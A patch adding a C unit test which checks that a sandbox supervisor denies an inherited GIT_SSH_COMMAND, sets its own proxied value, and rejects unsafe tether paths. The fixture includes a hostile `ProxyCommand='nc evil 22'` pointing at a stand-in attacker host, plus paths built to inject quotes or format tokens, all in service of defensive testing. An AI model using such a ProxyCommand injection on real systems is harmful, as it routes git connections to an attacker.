@@ -474,6 +474,62 @@ static void test_path_rules(void **state)
 	policy_free(p);
 }
 
+/* environment.git_ssh_via_proxy: GIT_SSH_COMMAND runs ssh through
+ * `tether connect`; the parent's GIT_SSH_COMMAND is still hard-denied; no
+ * proxy or a path a shell would read: not set, with a warning. */
+static bool warned(const struct envb_result *r, const char *what)
+{
+	for (size_t i = 0; i < r->n_warnings; i++)
+		if (strstr(r->warnings[i], what))
+			return true;
+	return false;
+}
+
+static void test_git_ssh_via_proxy(void **state)
+{
+	(void)state;
+	struct envb_result r;
+	char *parent[] = { "GIT_SSH_COMMAND=ssh -o ProxyCommand='nc evil 22'", NULL };
+	struct policy *off = mkpol(NULL, "version: 1\n", NULL, NULL);
+	struct policy *on = mkpol(NULL, "version: 1\nenvironment:\n  git_ssh_via_proxy: true\n", NULL, NULL);
+	struct envb_extra x = { .proxy_url = "http://127.0.0.1:3128", .tether_path = "/usr/bin/tether" };
+
+	build(off, parent, &x, &r); /* not asked for: not set */
+	assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
+	expect_parent(&r, "GIT_SSH_COMMAND", false, REASON_HARD_DENY);
+	envb_result_done(&r);
+
+	build(on, parent, &x, &r);
+	assert_string_equal(envp_get(r.envp, "GIT_SSH_COMMAND"), "ssh -o ProxyCommand='/usr/bin/tether connect %h %p'");
+	const struct envb_entry *e = find(r.parent, r.n_parent, "GIT_SSH_COMMAND"); /* the parent's value never */
+	assert_non_null(e);
+	assert_false(e->kept);
+	assert_int_equal(e->reason, REASON_HARD_DENY);
+	e = find(r.set, r.n_set, "GIT_SSH_COMMAND");
+	assert_non_null(e);
+	assert_int_equal(e->reason, REASON_SUPERVISOR_SET);
+	envb_result_done(&r);
+
+	struct envb_extra none = x;
+	none.proxy_url = NULL;
+	build(on, parent, &none, &r);
+	assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
+	assert_true(warned(&r, "needs the egress proxy"));
+	envb_result_done(&r);
+
+	const char *bad[] = { "/opt/te ther/tether", "/opt/it's/tether", "/opt/%h/tether", "tether", NULL };
+	for (size_t i = 0; i <= 4; i++) {
+		struct envb_extra b = x;
+		b.tether_path = bad[i];
+		build(on, parent, &b, &r);
+		assert_null(envp_get(r.envp, "GIT_SSH_COMMAND"));
+		assert_true(warned(&r, "GIT_SSH_COMMAND not set"));
+		envb_result_done(&r);
+	}
+	policy_free(on);
+	policy_free(off);
+}
+
 static void test_audit_json(void **state)
 {
 	struct policy *p = mkpol(NULL, "version: 1\nenvironment:\n  pass_through: [EDITOR]\n", NULL, NULL);
@@ -514,6 +570,7 @@ int main(void)
 		cmocka_unit_test(test_set),
 		cmocka_unit_test_setup_teardown(test_path_rules, path_setup, path_teardown),
 		cmocka_unit_test(test_audit_json),
+		cmocka_unit_test(test_git_ssh_via_proxy),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
